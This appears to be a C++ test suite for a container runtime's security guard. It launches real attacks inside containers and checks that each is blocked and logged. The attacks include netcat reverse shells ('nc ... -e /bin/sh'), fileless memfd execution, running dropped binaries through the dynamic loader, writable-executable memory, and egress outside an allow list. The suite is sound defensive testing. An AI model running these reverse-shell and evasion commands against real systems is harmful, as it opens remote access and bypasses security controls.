// Real attacks in guarded busybox containers. Each must fail, and an event must name what
// happened; in audit mode each must succeed and still be reported.
#include <sys/stat.h>

#include "base/file.hpp"
#include "guard_fixture.hpp"

namespace veil::test {
namespace {

// The command a listener sends: if a shell runs it, the marker appears in /out on the host.
std::string marker_command(const std::string& name) {
  return "echo pwned > /out/" + name + "; echo MARK-" + name + "\n";
}

bool marker_exists(const std::string& name) {
  return path_exists(GuardEnv::get().out_dir + "/" + name);
}

const nlohmann::json* find_rule(const std::vector<nlohmann::json>& evs, const std::string& rule) {
  for (const auto& e : evs)
    if (e.value("rule", "") == rule) return &e;
  return nullptr;
}

// The bundle's container in a microVM, without the /out volume (a writable volume makes the VM
// boot cold; these tests need no marker files).
void in_microvm(GuardBundle& b) {
  b.config["annotations"]["org.veil.handler"] = "microvm";
  nlohmann::json mounts = nlohmann::json::array();
  for (const auto& m : b.config["mounts"])
    if (m.value("destination", "") != "/out") mounts.push_back(m);
  b.config["mounts"] = mounts;
  b.write();
}

class GuardAttack : public ::testing::Test {
 protected:
  void SetUp() override { REQUIRE_GUARD(); }
  Veil veil;
};

TEST_F(GuardAttack, ClassicReverseShellGetsNoShell) {
  std::string id = unique_id("rs-classic"), mark = id;
  Listener l(marker_command(mark));
  GuardBundle b({"/bin/attack", "revshell", "127.0.0.1", std::to_string(l.port())}, "default");
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  EXPECT_TRUE(l.finish()) << "the attack should reach the listener: " << c.out << c.err;
  EXPECT_EQ(c.code, 137) << c.out << c.err;  // the shell was killed before its first instruction
  EXPECT_FALSE(marker_exists(mark)) << "the command sent to the reverse shell ran";
  EXPECT_EQ(l.received().find("MARK-"), std::string::npos) << l.received();
  auto evs = GuardEnv::get().events(id);
  const auto* e = find_rule(evs, "reverse_shell");
  ASSERT_NE(e, nullptr) << "no reverse_shell event for " << id;
  EXPECT_EQ(e->value("action", ""), "killed");
  EXPECT_EQ(e->value("exe", ""), "/bin/sh");
  EXPECT_EQ((*e)["argv"], nlohmann::json::array({"sh", "-i"}));
  EXPECT_EQ(e->value("detail", ""), "stdin/stdout/stderr is a network socket");
  EXPECT_EQ(e->value("policy", ""), "default");
  EXPECT_EQ(e->value("mechanism", ""), "bpf:tp_btf/sched_process_exec");
  EXPECT_EQ(e->value("cwd", ""), "/");
  EXPECT_GT(e->value("pid", 0), 0);
  EXPECT_GT(e->value("ppid", 0), 0);
  std::string t = e->value("time", "");
  EXPECT_EQ(t.size(), std::string("2026-12-01T09:10:51.123456789Z").size()) << t;
}

TEST_F(GuardAttack, NetcatDashEIsKilledBeforeItConnects) {
  std::string id = unique_id("rs-nc"), mark = id;
  Listener l(marker_command(mark));
  GuardBundle b(
      {"sh", "-c", "nc 127.0.0.1 " + std::to_string(l.port()) + " -e /bin/sh; echo nc=$?"},
      "default");
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  EXPECT_FALSE(l.finish()) << "nc connected: it should have died at exec";
  EXPECT_NE(c.out.find("nc=137"), std::string::npos) << c.out << c.err;
  EXPECT_FALSE(marker_exists(mark));
  auto evs = GuardEnv::get().events(id);
  const auto* e = find_rule(evs, "reverse_shell");
  ASSERT_NE(e, nullptr);
  EXPECT_EQ(e->value("detail", ""), "netcat started with a program to run");
  EXPECT_EQ((*e)["argv"][0], "nc");
}

TEST_F(GuardAttack, ShellStartedWithASocketAsStdio) {
  std::string id = unique_id("rs-spawn"), mark = id;
  Listener l(marker_command(mark));
  GuardBundle b({"/bin/attack", "spawn", "127.0.0.1", std::to_string(l.port())}, "default");
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  l.finish();
  EXPECT_NE(c.out.find("shell: killed by signal 9"), std::string::npos) << c.out << c.err;
  EXPECT_FALSE(marker_exists(mark));
  EXPECT_NE(find_rule(GuardEnv::get().events(id), "reverse_shell"), nullptr);
}

TEST_F(GuardAttack, MemfdExecution) {
  for (const char* how : {"memfd", "execveat"}) {
    std::string id = unique_id(std::string("fl-") + how);
    GuardBundle b({"/bin/attack", how}, "default");
    Cmd c = veil({"run", "--bundle", b.dir(), id});
    EXPECT_EQ(c.out.find("FILELESS-RAN"), std::string::npos) << how << ": " << c.out;
    EXPECT_EQ(c.code, 137) << how << ": " << c.out << c.err;
    auto evs = GuardEnv::get().events(id);
    const auto* e = find_rule(evs, "fileless_exec");
    ASSERT_NE(e, nullptr) << how;
    EXPECT_EQ(e->value("detail", ""), "memfd");
    EXPECT_EQ((*e)["argv"], nlohmann::json::array({"busybox", "echo", "FILELESS-RAN"}));
  }
}

// The same attacks in a microVM container (docs/microvm.md): the guard's BPF programs run in the
// guest kernel, and the events reach this daemon through the VM's monitor, marked as the guest's.
// The reverse shell connects to a listener inside the guest (the VM has no network to the host).
TEST_F(GuardAttack, InAMicrovmTheGuestKernelStopsFilelessAndReverseShells) {
  std::string id = unique_id("vm-fl");
  GuardBundle f({"/bin/attack", "memfd"}, "default");
  in_microvm(f);
  Cmd c = veil({"run", "--bundle", f.dir(), id});
  EXPECT_EQ(c.out.find("FILELESS-RAN"), std::string::npos) << c.out << c.err;
  auto evs = GuardEnv::get().events(id);
  const auto* e = find_rule(evs, "fileless_exec");
  ASSERT_NE(e, nullptr) << "no fileless event from the guest: " << c.out << c.err;
  EXPECT_NE(e->value("mechanism", "").find("(guest)"), std::string::npos) << e->dump();

  std::string rid = unique_id("vm-rs");
  GuardBundle r({"/bin/sh", "-c",
                 "nc -l -p 4444 -e /bin/sh -c 'echo MARK-GUEST' & sleep 0.5; "
                 "/bin/attack spawn 127.0.0.1 4444"},
                "default");
  in_microvm(r);
  Cmd rc = veil({"run", "--bundle", r.dir(), rid});
  auto revs = GuardEnv::get().events(rid);
  const auto* re = find_rule(revs, "reverse_shell");
  ASSERT_NE(re, nullptr) << "no reverse_shell event from the guest: " << rc.out << rc.err;
  EXPECT_NE(re->value("mechanism", "").find("(guest)"), std::string::npos) << re->dump();
}

// The rest of the suite in a microVM, one policy for all: W^X (the guest's BPF LSM, with events),
// sensitive syscalls (seccomp in the guest: refused, but without events, as no daemon runs
// there), egress to a listener inside the guest (the guest's cgroup programs, with events), and a
// write rule (Landlock in the guest).
TEST_F(GuardAttack, InAMicrovmWxSyscallsEgressAndWritesAreRefusedInTheGuest) {
  std::string policy = GuardEnv::get().write_policy(
      "vm-all",
      "rules:\n  egress:\n    allow:\n      - cidr: 127.0.0.1/32\n        ports: [8080]\n"
      "        protocol: tcp\nwrite:\n  deny: [\"/etc/**\"]\n");
  std::string id = unique_id("vm-all");
  GuardBundle b({"/bin/sh", "-c",
                 "/bin/attack mprotect; /bin/attack mmapwx; /bin/attack ptrace; /bin/attack bpf; "
                 "(nc -l -p 9999 >/dev/null &); (nc -l -p 8080 >/dev/null &); "
                 "/bin/attack connect 127.0.0.1 9999; "
                 "for i in 1 2 3 4 5 6 7 8; do /bin/attack connect 127.0.0.1 8080 && break; "
                 "sleep 0.5; done; "
                 "echo x > /etc/evil && echo ETC-WRITTEN; echo y > /tmp/fine && echo TMP-WRITTEN"},
                policy);
  b.config["root"]["readonly"] = false;
  in_microvm(b);
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  EXPECT_NE(c.out.find("mprotect: Permission denied"), std::string::npos) << c.out << c.err;
  EXPECT_NE(c.out.find("mmap: Permission denied"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("ptrace: Operation not permitted"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("bpf: Operation not permitted"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("connect: Operation not permitted\n"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("connect: ok\n"), std::string::npos) << c.out;  // the allowed port
  EXPECT_EQ(c.out.find("ETC-WRITTEN"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("TMP-WRITTEN"), std::string::npos) << c.out << c.err;
  auto evs = GuardEnv::get().events(id, 3);
  bool wx = false, egress = false;
  for (const auto& e : evs) {
    std::string mech = e.value("mechanism", "");
    if (e.value("rule", "") == "wx_memory" && mech.ends_with(" (guest)")) wx = true;
    if (e.value("rule", "") == "egress" && mech == "bpf:cgroup/connect4 (guest)" &&
        e.value("remote", "") == "127.0.0.1:9999")
      egress = true;
  }
  EXPECT_TRUE(wx) << "no W^X event from the guest";
  EXPECT_TRUE(egress) << "no egress event from the guest";
}

// A dropped program handed to the image's own dynamic loader is never exec'ed: the loader maps
// it. In the guest the LSM's mmap hook refuses the executable mapping as drift; the image's copy
// of the same program still runs through the same loader.
TEST_F(GuardAttack, InAMicrovmADroppedProgramRunThroughTheLoaderIsRefused) {
  std::string id = unique_id("vm-ldso");
  GuardBundle b({"/bin/sh", "-c",
                 "cp /bin/attack-dyn /tmp/dropped && /lib64/ld-linux-x86-64.so.2 /tmp/dropped "
                 "hello; echo rc=$?; /lib64/ld-linux-x86-64.so.2 /bin/attack-dyn hello"},
                "default");
  in_microvm(b);
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  EXPECT_EQ(c.code, 0) << c.out << c.err;
  // Only the image's copy ran: the dropped one printed nothing, and the loader failed.
  auto first = c.out.find("HELLO-RAN"), rc = c.out.find("rc=");
  EXPECT_NE(first, std::string::npos) << c.out << c.err;
  EXPECT_EQ(c.out.find("HELLO-RAN", first + 1), std::string::npos) << c.out;
  EXPECT_LT(rc, first) << c.out;
  EXPECT_EQ(c.out.find("rc=0"), std::string::npos) << c.out << c.err;
  auto evs = GuardEnv::get().events(id);
  const auto* e = find_rule(evs, "drift");
  ASSERT_NE(e, nullptr) << "no drift event from the guest: " << c.out << c.err;
  EXPECT_EQ(e->value("mechanism", ""), "bpf:lsm/mmap_file (guest)") << e->dump();
  EXPECT_EQ(e->value("file", ""), "/tmp/dropped") << e->dump();
  EXPECT_EQ(e->value("action", ""), "blocked") << e->dump();
  EXPECT_EQ(e->value("container", ""), id) << e->dump();
}

TEST_F(GuardAttack, DroppedBinaryIsRefusedWhileTheImageCopyRuns) {
  std::string id = unique_id("drift");
  GuardBundle b({"sh", "-c",
                 "cp /bin/busybox /tmp/busybox && /tmp/busybox echo DRIFT-RAN; echo rc=$?; "
                 "/bin/busybox echo IMAGE-RAN"},
                "default");
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  EXPECT_EQ(c.code, 0) << c.err;
  EXPECT_EQ(c.out.find("DRIFT-RAN"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("IMAGE-RAN"), std::string::npos) << c.out;
  // With the daemon up the exec is refused before it starts (EPERM, sh reports 126).
  EXPECT_NE(c.out.find("rc=126"), std::string::npos) << c.out << c.err;
  auto evs = GuardEnv::get().events(id);
  const auto* e = find_rule(evs, "drift");
  ASSERT_NE(e, nullptr);
  EXPECT_EQ(e->value("action", ""), "blocked");
  EXPECT_EQ(e->value("mechanism", ""), "fanotify:FAN_OPEN_EXEC_PERM");
  EXPECT_EQ(e->value("exe", ""), "/tmp/busybox");
}

TEST_F(GuardAttack, EgressOnlyToTheAllowList) {
  Listener allowed("hello\n");
  Listener denied("hello\n");
  std::string policy = GuardEnv::get().write_policy(
      "egress-" + std::to_string(allowed.port()),
      "rules:\n  egress:\n    allow:\n      - cidr: 127.0.0.1/32\n        ports: [" +
          std::to_string(allowed.port()) + "]\n        protocol: tcp\n");
  std::string id = unique_id("egress");
  GuardBundle b({"sh", "-c",
                 "/bin/attack connect 127.0.0.1 " + std::to_string(denied.port()) +
                     "; /bin/attack connect 127.0.0.1 " + std::to_string(allowed.port()) +
                     "; /bin/attack udp 127.0.0.1 53"},
                policy);
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  EXPECT_TRUE(allowed.finish());
  EXPECT_FALSE(denied.finish()) << "a connection outside the allow list got through";
  EXPECT_NE(c.out.find("connect: Operation not permitted\n"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("connect: ok\n"), std::string::npos) << c.out;  // the allowed port
  EXPECT_NE(c.out.find("sendto: Operation not permitted"), std::string::npos) << c.out;
  auto evs = GuardEnv::get().events(id, 2);
  ASSERT_GE(evs.size(), 2u);
  EXPECT_EQ(evs[0].value("remote", ""), "127.0.0.1:" + std::to_string(denied.port()));
  EXPECT_EQ(evs[0].value("protocol", ""), "tcp");
  EXPECT_EQ(evs[0].value("mechanism", ""), "bpf:cgroup/connect4");
  EXPECT_EQ(evs[0].value("action", ""), "blocked");
  EXPECT_EQ(evs[0]["argv"][0], "/bin/attack");
  EXPECT_EQ(evs[1].value("remote", ""), "127.0.0.1:53");
  EXPECT_EQ(evs[1].value("protocol", ""), "udp");
}

TEST_F(GuardAttack, WritableExecutableMemoryIsRefused) {
  std::string id = unique_id("wx");
  GuardBundle b({"sh", "-c", "/bin/attack mprotect; /bin/attack mmapwx"}, "default");
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  EXPECT_NE(c.out.find("mprotect: Permission denied"), std::string::npos) << c.out << c.err;
  EXPECT_NE(c.out.find("mmap: Permission denied"), std::string::npos) << c.out;
  auto evs = GuardEnv::get().events(id, 2);
  ASSERT_GE(evs.size(), 2u);
  EXPECT_EQ(evs[0].value("rule", ""), "wx_memory");
  EXPECT_EQ(evs[0].value("syscall", ""), "mprotect");
  EXPECT_EQ(evs[0].value("detail", ""), "prot RX");
  EXPECT_EQ(evs[1].value("syscall", ""), "mmap");
}

TEST_F(GuardAttack, SensitiveSyscallsAreRefused) {
  std::string id = unique_id("sens");
  GuardBundle b({"sh", "-c", "/bin/attack ptrace; /bin/attack bpf"}, "default");
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  EXPECT_NE(c.out.find("ptrace: Operation not permitted"), std::string::npos) << c.out << c.err;
  EXPECT_NE(c.out.find("bpf: Operation not permitted"), std::string::npos) << c.out;
  auto evs = GuardEnv::get().events(id, 2);
  ASSERT_GE(evs.size(), 2u);
  EXPECT_EQ(evs[0].value("syscall", ""), "ptrace");
  EXPECT_EQ(evs[1].value("syscall", ""), "bpf");
  EXPECT_EQ(evs[1].value("rule", ""), "sensitive_syscalls");
}

TEST_F(GuardAttack, AuditModeLetsEverythingRunAndReportsIt) {
  auto& env = GuardEnv::get();
  std::string policy = env.write_policy(
      "audit-all", "mode: audit\nrules:\n  egress:\n    allow: [10.255.255.255/32]\n");
  std::string id = unique_id("audit"), mark = id;
  Listener shell(marker_command(mark));
  Listener net("x\n");
  GuardBundle b(
      {"sh", "-c",
       "/bin/attack revshell 127.0.0.1 " + std::to_string(shell.port()) +
           " </dev/null >/dev/null 2>&1; "
           "/bin/attack memfd; cp /bin/busybox /tmp/busybox && /tmp/busybox echo DRIFT-RAN; "
           "/bin/attack connect 127.0.0.1 " +
           std::to_string(net.port()) + "; /bin/attack mprotect; /bin/attack ptrace"},
      policy);
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  shell.finish();
  net.finish();
  EXPECT_TRUE(marker_exists(mark)) << "audit mode must not stop the shell: " << shell.received();
  EXPECT_NE(c.out.find("FILELESS-RAN"), std::string::npos) << c.out << c.err;
  EXPECT_NE(c.out.find("DRIFT-RAN"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("connect: ok"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("mprotect: ok"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("ptrace: ok"), std::string::npos) << c.out;
  auto evs = env.events(id, 6);
  for (const char* rule :
       {"reverse_shell", "fileless_exec", "drift", "egress", "wx_memory", "sensitive_syscalls"}) {
    const auto* e = find_rule(evs, rule);
    ASSERT_NE(e, nullptr) << "no " << rule << " event in audit mode";
    EXPECT_EQ(e->value("action", ""), "audited") << rule;
  }
}

TEST_F(GuardAttack, ProcessesOutsideGuardedContainersAreUntouched) {
  // An unguarded container on the same rootfs, while the guard is loaded.
  std::string id = unique_id("unguarded");
  GuardBundle b({"sh", "-c",
                 "cp /bin/busybox /tmp/busybox && /tmp/busybox echo DRIFT-RAN; /bin/attack memfd; "
                 "/bin/attack mprotect"},
                "");
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  EXPECT_NE(c.out.find("DRIFT-RAN"), std::string::npos) << c.out << c.err;
  EXPECT_NE(c.out.find("FILELESS-RAN"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("mprotect: ok"), std::string::npos) << c.out;
  EXPECT_TRUE(GuardEnv::get().events(id, 1, 300).empty());
  // And on the host itself.
  Cmd host = run({VEIL_ATTACK_BINARY, "memfd"});
  EXPECT_NE(host.out.find("FILELESS-RAN"), std::string::npos) << host.out << host.err;
}

TEST_F(GuardAttack, BenignWorkloadRaisesNoEvents) {
  std::string id = unique_id("benign");
  // Shell scripts, pipes, busybox tools and a small "build": generate sources, archive,
  // compress, checksum, unpack and compare, in the default profile.
  GuardBundle b(
      {"sh", "-c",
       "set -e; mkdir -p /tmp/src /tmp/out; cd /tmp/src; "
       "for i in $(seq 1 20); do echo \"int f$i(void) { return $i; }\" > f$i.c; done; "
       "cat > build.sh <<'EOS'\n#!/bin/sh\nfor f in *.c; do sed 's/int/long/' \"$f\" > "
       "/tmp/out/\"${f%.c}.o\"; done\nls /tmp/out | sort | wc -l\nEOS\n"
       "sh build.sh; tar -cf /tmp/a.tar -C /tmp out; gzip -9 /tmp/a.tar; "
       "sha256sum /tmp/a.tar.gz | cut -c1-8; mkdir /tmp/x; tar -xzf /tmp/a.tar.gz -C /tmp/x; "
       "diff -r /tmp/out /tmp/x/out && echo SAME; "
       "awk 'BEGIN{s=0} {s+=length($0)} END{print s}' /tmp/src/*.c; "
       "ps | grep -c sh >/dev/null; find /tmp -name '*.o' | xargs grep -l long | wc -l; "
       "echo done | tr a-z A-Z"},
      "default");
  Cmd c = veil({"run", "--bundle", b.dir(), id});
  EXPECT_EQ(c.code, 0) << c.out << c.err;
  EXPECT_NE(c.out.find("SAME"), std::string::npos) << c.out << c.err;
  EXPECT_NE(c.out.find("DONE"), std::string::npos) << c.out;
  auto evs = GuardEnv::get().events(id, 1, 500);
  EXPECT_TRUE(evs.empty()) << evs.size()
                           << " events, first: " << (evs.empty() ? "" : evs[0].dump());
}

}  // namespace
}  // namespace veil::test
